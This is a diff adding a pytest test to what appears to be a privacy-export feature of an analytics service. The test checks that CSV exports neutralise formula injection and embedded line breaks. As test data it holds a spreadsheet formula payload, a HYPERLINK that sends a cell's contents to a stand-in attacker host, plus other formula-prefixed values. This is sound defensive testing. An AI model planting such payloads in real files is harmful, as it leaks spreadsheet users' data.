@@ -200,6 +200,36 @@ def test_export_holds_every_row_as_json_and_zip(people, store):
     assert "`viewer_id`: a random identifier" in readme and "viewer_events.csv (2 rows)" in readme
 
 
+def test_export_zip_csvs_neutralise_formulas_and_line_breaks_from_beacons(server, tenant_factory, store):
+    """A viewer's own beacons carry text the page chose (error messages, codes): in the
+    export's CSVs a leading = + - @ becomes text (a ' first) and a CR stays in its cell."""
+    import csv
+
+    tenant, key = tenant_factory()
+    http = server.http
+    assert consent(http, tenant.tenant_id, "mallory").status_code == 201
+    hostile = {"error_message": '=HYPERLINK("http://evil.example/?"&A1,"open")', "error_code": "@SUM(1)"}
+    now = int(time.time() * 1000)
+    evs = [{"type": "viewstart", "ts": now, "view_id": "-1-1", "video_id": "vd_1"},
+           {"type": "error", "ts": now + 1, "view_id": "-1-1", "video_id": "vd_1", "fatal": True, **hostile},
+           {"type": "error", "ts": now + 2, "view_id": "-1-1", "video_id": "vd_1",
+            "error_code": "+1", "error_message": "first line\r\n=1+1,;@x"}]
+    assert collect(http, tenant.tenant_id, "mallory", evs).status_code == 202
+    wait_for(lambda: server.edge.buffer.pending_rows == 0)
+    z = http.get("/v1/privacy/export", params={"viewer_id": "mallory", "format": "zip"}, headers=_admin(key))
+    assert z.status_code == 200
+    text = zipfile.ZipFile(io.BytesIO(z.content)).read("viewer_events.csv").decode()
+    table = list(csv.DictReader(io.StringIO(text)))
+    assert len(table) == 3  # no row smuggled in by the CR LF
+    by_type = sorted(table, key=lambda row: row["ts"])
+    assert {row["view_id"] for row in table} == {"'-1-1"}
+    assert by_type[1]["error_message"] == "'" + hostile["error_message"]
+    assert by_type[1]["error_code"] == "'@SUM(1)"
+    assert by_type[2]["error_code"] == "'+1" and by_type[2]["error_message"] == "first line\r\n=1+1,;@x"
+    for row in table:
+        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
+
+
 def test_restore_replays_the_ledger(people, store):
     """A backup taken before a purge, restored: the replay erases the subject again."""
     server, a, key_a, *_ = people
